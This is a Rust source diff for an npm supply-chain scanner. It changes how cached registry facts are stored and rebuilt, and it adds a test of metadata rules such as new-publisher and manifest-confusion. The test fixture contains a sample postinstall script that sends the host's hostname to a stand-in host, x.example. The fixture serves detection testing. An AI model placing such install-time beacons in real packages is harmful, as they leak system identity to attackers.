@@ -15,10 +15,12 @@
 
 use crate::plan::{Item, ItemSource};
 use ferret_cache::{Cache, PackumentEntry, Table};
-use ferret_core::{Ecosystem, Finding, MetadataStatus, PackageReport, RegistryFacts};
+use ferret_core::{
+    Ecosystem, FileFacts, MetadataStatus, PackageFacts, PackageId, PackageReport, RegistryFacts,
+};
 use ferret_registry::{NpmClient, Packument};
-use ferret_rules::Rule;
 use ferret_rules::detect::metadata::{REGISTRY_RULES, not_evaluated_for};
+use ferret_rules::{Rule, RuleContext};
 use serde_json::Value;
 use std::collections::{BTreeMap, BTreeSet};
 use std::path::Path;
@@ -38,7 +40,8 @@ pub const REVALIDATE_AFTER: Duration = Duration::from_secs(10 * 60);
 
 /// The rule's tarball package.json, kept per content (integrity) for manifest confusion.
 const MANIFEST_PREFIX: &str = "mf|";
-/// Derived registry facts of one version: `facts|{packument url}|{version}`.
+/// Derived registry facts of one version: `facts|{packument url}|{version}`, with when they
+/// were last validated.
 const FACTS_PREFIX: &str = "facts|";
 
 /// The registry facts of `name@version` for every registry item of a plan, or why not.
@@ -83,8 +86,42 @@ pub(crate) fn fetch_all(
                 .insert(item.version.as_str());
         }
     }
+    let mut results = MetaResults::new();
+    // Facts validated recently (or, offline, at any time), in one cache read: a warm scan
+    // stops here without a request or a packument parse.
+    if let (Some(c), Some(keys)) = (cache, keys) {
+        let mut ids: Vec<(&str, &str, String)> = Vec::new();
+        for (name, versions) in &wanted {
+            let url = keys.packument_url(name);
+            ids.extend(versions.iter().map(|v| (*name, *v, facts_key(&url, v))));
+        }
+        let refs: Vec<&str> = ids.iter().map(|(_, _, k)| k.as_str()).collect();
+        let now_s = unix(now);
+        let mut stale: BTreeSet<&str> = BTreeSet::new();
+        let mut fresh: Vec<((String, String), Result<RegistryFacts, String>)> = Vec::new();
+        for ((name, v, _), got) in ids.iter().zip(c.get_many(Table::Analysis, &refs)) {
+            match got.and_then(|b| serde_json::from_slice::<CachedFacts>(&b).ok()) {
+                Some(f) if client.is_none() || is_fresh(f.checked_at, now_s) => {
+                    fresh.push((
+                        ((*name).to_owned(), (*v).to_owned()),
+                        Ok(with_now(f.facts, now_s)),
+                    ));
+                }
+                _ => {
+                    stale.insert(name);
+                }
+            }
+        }
+        // A package is revalidated as a whole when any of its versions is stale.
+        for (id, r) in fresh {
+            if !stale.contains(id.0.as_str()) {
+                results.insert(id, r);
+            }
+        }
+        wanted.retain(|name, _| stale.contains(name));
+    }
     let names: Vec<(&str, BTreeSet<&str>)> = wanted.into_iter().collect();
-    let out = Mutex::new(MetaResults::new());
+    let out = Mutex::new(results);
     let next = AtomicUsize::new(0);
     std::thread::scope(|s| {
         for _ in 0..jobs.clamp(1, 64).min(names.len()) {
@@ -122,13 +159,12 @@ fn facts_for(
             .map(|v| result(v, Err("no registry configuration".to_owned())))
             .collect();
     };
-    let facts_key = |v: &str| format!("{FACTS_PREFIX}{key}|{v}");
     // 1. Derived facts validated recently (or, offline, at any time).
     let cached: Vec<Option<CachedFacts>> = match cache {
         Some(c) => {
-            let ks: Vec<String> = versions.iter().map(|v| facts_key(v)).collect();
+            let ks: Vec<String> = versions.iter().map(|v| facts_key(&key, v)).collect();
             let refs: Vec<&str> = ks.iter().map(String::as_str).collect();
-            c.get_many(Table::Packument, &refs)
+            c.get_many(Table::Analysis, &refs)
                 .into_iter()
                 .map(|b| b.and_then(|b| serde_json::from_slice(&b).ok()))
                 .collect()
@@ -220,7 +256,7 @@ fn facts_for(
                     facts: facts.clone(),
                 })
             {
-                store.push((facts_key(v), bytes));
+                store.push((facts_key(&key, v), bytes));
             }
             result(v, Ok(facts))
         })
@@ -232,9 +268,15 @@ fn facts_for(
             .iter()
             .map(|(k, v)| (k.as_str(), v.as_slice()))
             .collect();
-        let _ = c.put_many(Table::Packument, &entries);
+        let _ = c.put_many(Table::Analysis, &entries);
     }
     out
+}
+
+/// The cache key of a version's derived facts (in the analysis table, with the small
+/// entries a warm scan reads, not among the packument bodies).
+fn facts_key(packument_url: &str, version: &str) -> String {
+    format!("{FACTS_PREFIX}{packument_url}|{version}")
 }
 
 fn with_now(mut facts: RegistryFacts, now: i64) -> RegistryFacts {
@@ -270,6 +312,20 @@ pub(crate) fn apply(
         .filter(|i| matches!(i.source, ItemSource::Registry))
         .map(|i| ((i.name.as_str(), i.version.as_str()), i))
         .collect();
+    let Some(template) = file_template() else {
+        // Cannot happen (one file in, one file's facts out); never a silent pass if it does.
+        for report in packages.iter_mut() {
+            if report.package.ecosystem == Ecosystem::Npm {
+                report.not_evaluated = not_evaluated_for(
+                    &MetadataStatus::NotAvailable {
+                        reason: "internal error: no file facts".to_owned(),
+                    },
+                    Ecosystem::Npm,
+                );
+            }
+        }
+        return;
+    };
     let mut new_manifests: Vec<(String, Vec<u8>)> = Vec::new();
     // Cached manifests of the packages analysed from tarballs, in one read.
     let sris: Vec<String> = packages
@@ -333,7 +389,14 @@ pub(crate) fn apply(
                 }
             })
             .map(|(m, _)| m);
-        evaluate(report, facts, manifest.as_ref(), &rules, soak_hours);
+        evaluate(
+            report,
+            facts,
+            manifest.as_ref(),
+            &rules,
+            soak_hours,
+            &template,
+        );
     }
     if let Some(c) = cache
         && !new_manifests.is_empty()
@@ -356,11 +419,21 @@ fn manifest_of(
     manifests: &BTreeMap<String, Manifest>,
     cache: Option<&Cache>,
 ) -> Option<(Manifest, bool)> {
+    // The installed copy, when it is the locked name@version (as the pipeline decides:
+    // its analysis, fresh or cached, is of that directory).
+    if let Some(rel) = &item.install_path {
+        let dir = root.join(rel);
+        if let Ok(text) = std::fs::read_to_string(dir.join("package.json")) {
+            let doc: Value = serde_json::from_str(&text).unwrap_or_default();
+            let is = |k: &str, want: &str| doc.get(k).and_then(Value::as_str) == Some(want);
+            if is("name", &item.name) && is("version", &item.version) {
+                let gyp = dir.join("binding.gyp").is_file();
+                return Some((Manifest { text, gyp }, false));
+            }
+        }
+    }
     if origin == Some("node_modules") {
-        let dir = root.join(item.install_path.as_ref()?);
-        let text = std::fs::read_to_string(dir.join("package.json")).ok()?;
-        let gyp = dir.join("binding.gyp").is_file();
-        return Some((Manifest { text, gyp }, false));
+        return None;
     }
     let sri = report.package.integrity.as_ref()?;
     if let Some(m) = manifests.get(sri) {
@@ -387,79 +460,118 @@ fn manifest_of(
 
 /// Runs the registry rules for one package over facts rebuilt from its manifest (no code
 /// is analysed again: the install-time uses the rules need come from its report).
+/// `template` is any file's facts, cloned for the few files the rules look up.
 fn evaluate(
     report: &mut PackageReport,
     mut registry: RegistryFacts,
     manifest: Option<&Manifest>,
     rules: &[&'static dyn Rule],
     soak_hours: Option<u32>,
+    template: &FileFacts,
 ) {
     if soak_hours.is_some() {
         registry.soak_hours = soak_hours;
     }
-    let mut files = Vec::new();
-    if let Some(m) = manifest {
-        files.push(("package.json".to_owned(), m.text.clone().into_bytes()));
-        if m.gyp {
-            files.push(("binding.gyp".to_owned(), Vec::new()));
-        }
-    }
-    let tree = ferret_source::from_files(&report.package.source, files);
-    let mut facts = ferret_rules::build_facts(&tree, Ecosystem::Npm);
-    // The registry's identity: what the lockfile locked and the pipeline verified.
-    facts.id.name.clone_from(&report.package.name);
-    facts.id.version.clone_from(&report.package.version);
-    add_install_time_uses(&mut facts, report);
+    let mut facts = package_facts(report, manifest, template);
     facts.registry = Some(registry);
     facts.metadata_status = MetadataStatus::Evaluated;
-    let mut rules: Vec<&'static dyn Rule> = rules.to_vec();
     let mut not_evaluated = Vec::new();
-    if manifest.is_none() {
-        rules.retain(|r| r.meta().id != "manifest-confusion");
-        not_evaluated.push(ferret_core::NotEvaluated {
-            rule: "manifest-confusion".to_owned(),
-            reason: "the tarball's package.json is not at hand (analysis from the cache, tarball not kept)".to_owned(),
-        });
+    let mut cx = RuleContext::new();
+    for rule in rules {
+        // The rule compares the tarball's package.json with the registry's version document.
+        if manifest.is_none() && rule.meta().id == "manifest-confusion" {
+            not_evaluated.push(ferret_core::NotEvaluated {
+                rule: "manifest-confusion".to_owned(),
+                reason: "the tarball's package.json is not at hand (analysis from the cache, tarball not kept)".to_owned(),
+            });
+            continue;
+        }
+        for file in &facts.files {
+            rule.check_file(file, &facts, &mut cx);
+        }
+        rule.check_package(&facts, &mut cx);
     }
-    let found: Vec<Finding> = ferret_rules::engine::run_rules(&facts, &rules)
-        .into_iter()
-        .filter(|f| f.action != ferret_core::Action::Ignore)
-        .collect();
-    report.alerts.extend(found);
+    report.alerts.extend(
+        cx.into_findings()
+            .into_iter()
+            .filter(|f| f.action != ferret_core::Action::Ignore),
+    );
     report
         .alerts
         .sort_by(|a, b| a.sort_key().cmp(&b.sort_key()));
     report.not_evaluated = not_evaluated;
 }
 
-/// The install-time uses recorded in the report, as file facts (dependency confusion looks
-/// for an install-time network or system-identity probe).
-fn add_install_time_uses(facts: &mut ferret_core::PackageFacts, report: &PackageReport) {
-    let Some(template) = facts.files.first().cloned() else {
-        return;
+/// The facts the registry rules read, without analysing any file again: identity (the
+/// lockfile's, as verified), the tarball's manifest and install scripts, binding.gyp, and
+/// the install-time capability uses recorded in the report (dependency confusion looks for
+/// an install-time network or system-identity probe).
+fn package_facts(
+    report: &PackageReport,
+    manifest: Option<&Manifest>,
+    template: &FileFacts,
+) -> PackageFacts {
+    let file = |path: &str| {
+        let mut f = template.clone();
+        f.path = path.to_owned();
+        f.install_time = false;
+        f.uses = Vec::new();
+        f
     };
-    let mut by_path: BTreeMap<String, Vec<ferret_core::CapabilityUse>> = BTreeMap::new();
+    let mut files: BTreeMap<String, FileFacts> = BTreeMap::new();
+    let mut value = None;
+    let mut manifest_error = None;
+    let mut install_scripts = Vec::new();
+    if let Some(m) = manifest {
+        files.insert("package.json".to_owned(), file("package.json"));
+        if m.gyp {
+            files.insert("binding.gyp".to_owned(), file("binding.gyp"));
+        }
+        match serde_json::from_str::<Value>(&m.text) {
+            Ok(v) => {
+                let paths: BTreeSet<String> = files.keys().cloned().collect();
+                install_scripts =
+                    ferret_rules::install_script::parse_install_scripts(&v, &m.text, &paths);
+                value = Some(v);
+            }
+            Err(e) => manifest_error = Some(e.to_string()),
+        }
+    }
+    let mut install_time_files = BTreeSet::new();
     for cap in &report.capabilities {
         for u in cap.locations.iter().filter(|u| u.install_time) {
-            by_path
-                .entry(u.location.path.clone())
-                .or_default()
-                .push(u.clone());
-        }
-    }
-    for (path, uses) in by_path {
-        if let Some(f) = facts.files.iter_mut().find(|f| f.path == path) {
+            let path = &u.location.path;
+            let f = files.entry(path.clone()).or_insert_with(|| file(path));
             f.install_time = true;
-            f.uses.extend(uses);
-            continue;
+            f.uses.push(u.clone());
+            install_time_files.insert(path.clone());
         }
-        let mut f = template.clone();
-        f.path = path;
-        f.install_time = true;
-        f.uses = uses;
-        facts.files.push(f);
     }
-    facts.files.sort_by(|a, b| a.path.cmp(&b.path));
+    PackageFacts {
+        id: PackageId {
+            ecosystem: Ecosystem::Npm,
+            name: report.package.name.clone(),
+            version: report.package.version.clone(),
+        },
+        manifest: value,
+        manifest_error,
+        files: files.into_values().collect(),
+        install_scripts,
+        install_time_files,
+        archive_issues: Vec::new(),
+        registry: None,
+        metadata_status: MetadataStatus::default(),
+    }
+}
+
+/// Facts of one (empty) file: the template [`package_facts`] clones. Built once per scan
+/// (building facts goes through the analysis pool).
+fn file_template() -> Option<FileFacts> {
+    let tree = ferret_source::from_files("template", vec![("a".to_owned(), Vec::new())]);
+    ferret_rules::build_facts(&tree, Ecosystem::Npm)
+        .files
+        .into_iter()
+        .next()
 }
 
 #[cfg(test)]
@@ -498,11 +610,7 @@ mod tests {
         })
         .unwrap();
         cache
-            .put(
-                Table::Packument,
-                &format!("{FACTS_PREFIX}{key}|1.0.0"),
-                &bytes,
-            )
+            .put(Table::Analysis, &facts_key(&key, "1.0.0"), &bytes)
             .unwrap();
         let versions: BTreeSet<&str> = ["1.0.0"].into();
         let now = UNIX_EPOCH + Duration::from_secs(1_000_000);
@@ -511,5 +619,117 @@ mod tests {
         assert_eq!(f.fetched_at, 1_000_000);
         let got = facts_for("b", &versions, Some(&client), None, Some(&cache), now);
         assert!(got[0].1.as_ref().unwrap_err().contains("offline"));
+    }
+
+    /// The registry rules run over facts rebuilt from the manifest and the report: a fresh
+    /// version by a new publisher that adds an install script is reported with the given
+    /// soak time; without the tarball's package.json, manifest confusion is listed as not
+    /// evaluated (and only it).
+    #[test]
+    fn metadata_rules_run_on_the_report_of_a_cached_analysis() {
+        let manifest = r#"{"name":"p","version":"1.1.0","scripts":{"postinstall":"node i.js"}}"#;
+        let tree = ferret_source::from_files(
+            "t",
+            vec![
+                ("package.json".to_owned(), manifest.as_bytes().to_vec()),
+                (
+                    "i.js".to_owned(),
+                    b"require('https').get('https://x.example/?h=' + require('os').hostname());"
+                        .to_vec(),
+                ),
+            ],
+        );
+        let analysed = ferret_rules::scan(&tree, Ecosystem::Npm);
+        let now = SystemTime::now();
+        let iso = |secs_ago: u64| {
+            let t = unix(now) - i64::try_from(secs_ago).unwrap();
+            // RFC 3339 via the registry's own parser's inverse is not public: build it.
+            let days = t.div_euclid(86_400);
+            let rem = t.rem_euclid(86_400);
+            let (y, m, d) = civil(days);
+            format!(
+                "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.000Z",
+                rem / 3600,
+                rem % 3600 / 60,
+                rem % 60
+            )
+        };
+        let packument = serde_json::json!({
+            "name": "p",
+            "dist-tags": {"latest": "1.1.0"},
+            "time": {"created": iso(100 * 86_400), "1.0.0": iso(100 * 86_400), "1.1.0": iso(3600)},
+            "versions": {
+                "1.0.0": {"name": "p", "version": "1.0.0", "_npmUser": {"name": "alice"},
+                          "dist": {"tarball": "https://r.example/p/-/p-1.0.0.tgz"}},
+                "1.1.0": {"name": "p", "version": "1.1.0", "_npmUser": {"name": "mallory"},
+                          "scripts": {"postinstall": "node i.js"},
+                          "dist": {"tarball": "https://r.example/p/-/p-1.1.0.tgz"}}
+            }
+        });
+        let facts = ferret_registry::npm_registry_facts(&packument, "1.1.0", now);
+        let rules: Vec<&'static dyn Rule> = ferret_rules::all_rules()
+            .iter()
+            .copied()
+            .filter(|r| REGISTRY_RULES.contains(&r.meta().id))
+            .collect();
+        let template = file_template().unwrap();
+        let m = Manifest {
+            text: manifest.to_owned(),
+            gyp: false,
+        };
+        let mut report = analysed.clone();
+        evaluate(
+            &mut report,
+            facts.clone(),
+            Some(&m),
+            &rules,
+            Some(72),
+            &template,
+        );
+        let rule = |r: &PackageReport, id: &str| {
+            r.alerts
+                .iter()
+                .find(|a| a.rule == id)
+                .map(|a| a.message.clone())
+        };
+        let fresh = rule(&report, "recently-published").unwrap();
+        assert!(fresh.contains("72-hour"), "{fresh}");
+        let publisher = rule(&report, "new-publisher").unwrap();
+        assert!(publisher.contains("adds install scripts"), "{publisher}");
+        assert!(
+            rule(&report, "manifest-confusion").is_none(),
+            "{:?}",
+            report.alerts
+        );
+        assert!(report.not_evaluated.is_empty());
+        // The analysis findings are kept.
+        assert!(rule(&report, "install-script").is_some());
+
+        let mut report = analysed;
+        evaluate(&mut report, facts, None, &rules, None, &template);
+        assert!(
+            rule(&report, "recently-published")
+                .unwrap()
+                .contains("48-hour")
+        );
+        let listed: Vec<&str> = report
+            .not_evaluated
+            .iter()
+            .map(|n| n.rule.as_str())
+            .collect();
+        assert_eq!(listed, ["manifest-confusion"]);
+    }
+
+    /// Days since 1970-01-01 to (year, month, day) (Howard Hinnant's algorithm).
+    fn civil(days: i64) -> (i64, i64, i64) {
+        let z = days + 719_468;
+        let era = z.div_euclid(146_097);
+        let doe = z.rem_euclid(146_097);
+        let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
+        let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
+        let mp = (5 * doy + 2) / 153;
+        let d = doy - (153 * mp + 2) / 5 + 1;
+        let m = if mp < 10 { mp + 3 } else { mp - 9 };
+        (yoe + era * 400 + i64::from(m <= 2), m, d)
     }
 }
